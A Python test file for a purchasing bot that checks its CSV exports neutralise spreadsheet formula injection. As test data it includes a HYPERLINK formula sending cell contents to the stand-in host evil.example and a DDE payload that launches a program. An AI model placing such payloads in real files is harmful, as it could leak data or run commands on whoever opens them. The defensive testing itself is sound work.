"""Every CSV the bot sends is safe to open in a spreadsheet (the contract's rule), and /plan's
buttons read as written."""

from __future__ import annotations

import csv
import io

from bot.csv_safe import csv_document, safe_cell
from bot.jobs import daily_forecast
from bot.clock import shop_today
from bot.reports.data import load, rules_of
from bot.reports.files import csv_bytes
from tests.factories import ADMIN, PURCHASER, add_product
from tests.harness import Harness
from tests.planning_data import add_history

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
           "+1+2", "-2+3", "\t=1", "\r=1"]


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_text_that_a_spreadsheet_would_run_is_made_text_and_numbers_stay_numbers() -> None:
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    for number in ("-3", "+2.5", "-0.75", "1e3", "-1E-3", ".5"):
        assert safe_cell(number) == number
    for kept in (-3, 2.5, "Velvet Red", "口红", "", None, "a=b", "x@y"):
        assert safe_cell(kept) == kept
    [header, row] = _cells(csv_document(["a", "b", "c"], [["=1+1", -4, "-4"]]))
    assert row == ["'=1+1", "-4", "-4"]


async def test_plan_drafts_neutralise_every_cell_and_buttons_show_names_as_written(bot_harness: Harness) -> None:
    h = bot_harness
    await h.reply(ADMIN, f"/grant {PURCHASER} purchaser")
    supplier = '=HYPERLINK("http://evil.example","Rosa & Sons")'
    async with h.db.transaction() as session:
        product = await add_product(session, "@SUM(A1)", name="=cmd|' /C calc'!A0", reorder_point=5,
                                    lead_time_days=14, supplier=supplier, stock={"-2+3": 3})
        await add_history(session, product.id, "-2+3", [(4, 30)] * 60)
    await daily_forecast(h.services)
    plan = (await h.say(PURCHASER, "/plan"))[-1]
    labels = [button.text for button in plan.buttons()]
    assert any(label.startswith("🛒 1. Order") and "@SUM(A1) for -2+3" in label for label in labels), labels
    draft_label = next(label for label in labels if "Draft order" in label)
    assert "&#34;" not in draft_label and "&amp;" not in draft_label and "&quot;" not in draft_label
    assert draft_label.startswith('📄 Draft order: =HYPERLINK("http://evil.example","Rosa & Sons")'[:63])
    assert len(draft_label) <= 64
    documents = await h.press(PURCHASER, plan, "Draft order")
    [document] = [m for m in documents if m.kind == "document"]
    assert document.file is not None
    [header, row] = _cells(document.file.content)
    assert header[:4] == ["supplier", "sku", "name", "warehouse"]
    assert row[:4] == ["'" + supplier, "'@SUM(A1)", "'=cmd|' /C calc'!A0", "'-2+3"]
    assert int(row[4]) > 0  # the quantity is still a number


def test_a_long_label_is_cut_whole_never_inside_an_escape() -> None:
    from bot.handlers.purchaser import _button_text

    label = "📄 Draft order: " + "R&D " * 30
    cut = _button_text(label)
    assert len(cut) == 64 and cut.endswith("…") and "&amp" not in cut


async def test_the_report_csv_neutralises_skus_warehouses_and_names(db, settings) -> None:  # type: ignore[no-untyped-def]
    async with db.transaction() as session:
        product = await add_product(session, "=1+1", name="@SUM(A1)", stock={"+WH": 5})
        await add_history(session, product.id, "+WH", [(1, 5)] * 10)
    async with db.read_session() as session:
        data = await load(session, days=30, until=shop_today(settings.zone), rules=rules_of(settings))
    rows = list(csv.DictReader(io.StringIO(csv_bytes(data).decode("utf-8-sig"))))
    assert [(row["sku"], row["warehouse"], row["name"]) for row in rows] == [("'=1+1", "'+WH", "'@SUM(A1)")]
    assert rows[0]["stockout_days"] == "0"
